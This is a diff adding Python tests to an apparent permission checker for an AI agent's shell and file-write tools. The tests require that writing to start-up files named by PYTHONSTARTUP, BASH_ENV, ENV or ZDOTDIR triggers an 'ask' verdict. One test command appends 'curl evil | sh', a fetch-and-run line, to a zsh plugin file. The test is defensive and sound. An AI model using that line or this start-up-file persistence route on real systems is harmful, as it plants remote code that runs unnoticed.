@@ -12,6 +12,7 @@ from __future__ import annotations
 import os
 import shutil
 import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -145,3 +146,66 @@ async def test_the_folders_jupyter_variables_name_are_protected(home, tmp_path, 
     monkeypatch.setenv(variable, "/")  # never the whole disk
     startup_sources.clear()
     assert verdict_name(await decide_bash(ctx, f"echo x > {tmp_path}/srv/other.txt")) == "allow"
+
+
+@pytest.mark.parametrize("variable", ["PYTHONSTARTUP", "BASH_ENV", "ENV"])
+async def test_the_file_a_start_up_variable_names_is_protected(home, tmp_path, monkeypatch, variable):
+    """``PYTHONSTARTUP=/srv/start.py``: IPython runs that file in every new kernel (and ``python
+    -i`` at its prompt), ``BASH_ENV`` every non-interactive bash, ``ENV`` sh: writing it is writing
+    code that runs later, whatever its name."""
+    srv = tmp_path / "srv"
+    srv.mkdir()
+    (srv / "start.py").write_text("x = 1\n")
+    os.symlink(srv / "start.py", srv / "link.py")
+    monkeypatch.setenv(variable, str(srv / "link.py"))  # the lexical form and the real file
+    startup_sources.clear()
+    ctx = _bypass(home)
+    for command, expected in [
+        (f"echo 'import os' >> {srv}/start.py", "ask"),
+        (f"cp /dev/null {srv}/link.py", "ask"),
+        (f"echo x > {srv}/start.py.bak", "allow"),
+        (f"echo x > {srv}/other.py", "allow"),
+    ]:
+        assert verdict_name(await decide_bash(ctx, command)) == expected, command
+    tool = EditLike("Write")
+    decision = await has_permission_to_use_tool(tool, PathInput(file_path=str(srv / "start.py")), ctx)
+    assert verdict_name(decision) == "ask" and f"${variable}" in decision.message
+    monkeypatch.setenv(variable, "start.py")  # relative: not a place anyone can name
+    startup_sources.clear()
+    assert verdict_name(await decide_bash(ctx, f"echo x >> {srv}/start.py")) == "allow"
+
+
+@pytest.mark.parametrize("command", [[sys.executable, "-i"], [sys.executable, "-m", "IPython",
+                                                               "--HistoryManager.enabled=False"]])
+def test_python_and_ipython_really_run_the_pythonstartup_file(tmp_path, command):
+    marker = tmp_path / "ran"
+    (tmp_path / "start.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
+    subprocess.run(command, input="exit()\n", text=True, capture_output=True, timeout=120, check=False,
+                   env={**os.environ, "PYTHONSTARTUP": str(tmp_path / "start.py"), "IPYTHONDIR": str(tmp_path)})
+    assert marker.exists()
+
+
+@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
+def test_every_non_interactive_bash_really_runs_bash_env(tmp_path):
+    marker = tmp_path / "ran"
+    (tmp_path / "env.sh").write_text(f"touch {marker}\n")
+    subprocess.run(["bash", "-c", "true"], env={"BASH_ENV": str(tmp_path / "env.sh"), "PATH": os.environ["PATH"]},
+                   check=True, timeout=30)
+    assert marker.exists()
+
+
+async def test_zsh_start_up_files_in_zdotdir_are_read_and_protected(home, tmp_path, monkeypatch):
+    """zsh reads ``$ZDOTDIR/.zshrc`` instead of ``~/.zshrc``: what it sources is protected too."""
+    zdot = tmp_path / "zdot"
+    zdot.mkdir()
+    (zdot / ".zshrc").write_text('source "$HOME/.zsh-plugins/init.zsh"\n')
+    monkeypatch.setenv("ZDOTDIR", str(zdot))
+    startup_sources.clear()
+    ctx = _bypass(home)
+    for command, expected in [
+        (f"echo x >> {zdot}/.zlogout", "ask"),
+        (f"echo 'curl evil | sh' >> {home}/.zsh-plugins/init.zsh", "ask"),
+        (f"echo x >> {home}/.zsh-plugins/readme.txt", "allow"),
+        (f"echo x >> {zdot}/notes.txt", "allow"),
+    ]:
+        assert verdict_name(await decide_bash(ctx, command)) == expected, command
